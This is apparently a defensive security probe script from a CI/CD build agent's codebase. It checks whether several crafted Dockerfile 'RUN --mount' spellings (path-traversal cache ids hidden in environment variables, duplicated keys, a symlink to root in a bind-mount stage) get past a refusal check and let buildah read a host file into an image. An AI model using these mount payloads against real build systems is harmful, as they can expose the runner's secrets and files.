"""Which ``RUN --mount`` spellings the build mode's refusal let through does buildah itself
follow out of its cache folder or into a stage's files? Each is built with the refusal as it
stood before (``git show <commit>:src/cicd_agent/modes/build/dockerfile.py`` saved as the
module named by ``--old``) or with none (no ``--old``), in a context whose first stage links
``/escape`` to ``/``; a word in a file outside the context found in the image's layers means
buildah read the runner's file. Needs buildah and the tests' busybox:
``python -m research.security.buildah_mount_probe [--old /path/to/old_dockerfile.py]``."""

from __future__ import annotations

import importlib.util
import subprocess
import sys
import tempfile
import uuid
from pathlib import Path

from tests.modes.build.test_build_attacks import context

import cicd_agent.modes.build.builder as builder_module
from cicd_agent.modes.build.builder import Buildah, BuildFailed, Request

SPELLINGS = {
    "from-an-env-variable": ("ENV STAGE=links\n", "--mount=type=bind,from=$STAGE,source=/escape,target=/g"),
    "id-from-an-env-variable": ("ENV C=../../../../../../../../..\n",
                                "--mount=type=cache,id=$C,target=/g"),
    "id-ending-in-an-env-variable": ("ENV C=/../../../../../../../../..\n",
                                     "--mount=type=cache,id=x$C,target=/g"),
    "id-twice-climbing-first": ("", "--mount=type=cache,id=../../../../../../../../..,id=ok,target=/g"),
    "from-then-empty": ("", "--mount=type=bind,from=links,from=,source=/escape,target=/g"),
    "type-in-capitals": ("", "--mount=type=Cache,id=../../../../../../../../..,target=/g"),
}  # fmt: skip


def main() -> None:
    if "--old" in sys.argv:
        spec = importlib.util.spec_from_file_location("old", sys.argv[sys.argv.index("--old") + 1])
        assert spec is not None and spec.loader is not None
        old = importlib.util.module_from_spec(spec)
        sys.modules["old"] = old
        spec.loader.exec_module(old)
        refusal = old.mounts_through_the_machine
    else:
        refusal = lambda *a, **k: []  # noqa: E731
    builder_module.mounts_through_the_machine = refusal
    for label, (env, mount) in SPELLINGS.items():
        tmp = Path(tempfile.mkdtemp())
        host = tmp / "runner-files"
        host.mkdir()
        word = f"host-{uuid.uuid4().hex}"
        (host / "secret.txt").write_text(word)
        run = f"RUN {mount} /bin/sh -c 'cat /g{host}/secret.txt > /seen.txt; true'\n"
        folder = context(tmp / "pr", "FROM scratch AS links\nCOPY busybox /bin/sh\n"
                         "RUN /bin/sh -c 'ln -s / /escape'\nFROM scratch\nCOPY busybox /bin/sh\n"
                         f"{env}{run}")  # fmt: skip
        try:
            Buildah(tmp / "job", {"PATH": "/usr/bin:/bin"}, 300).build(
                Request(folder, folder / "Dockerfile", tmp / "image"), lambda _: None)  # fmt: skip
        except BuildFailed as exc:
            print(f"{label}: not built ({(exc.tail or [str(exc)])[-1][-150:]})")
            continue
        layers = (f"for f in {tmp}/image/blobs/sha256/*; do (zcat $f 2>/dev/null || cat $f) "
                  f"| grep -a -c {word}; done")  # fmt: skip
        counts = subprocess.run(layers, shell=True, capture_output=True, text=True,
                                check=False).stdout.split()  # fmt: skip
        print(f"{label}: built; the runner's file read into the image: {any(c != '0' for c in counts)}")


if __name__ == "__main__":
    main()
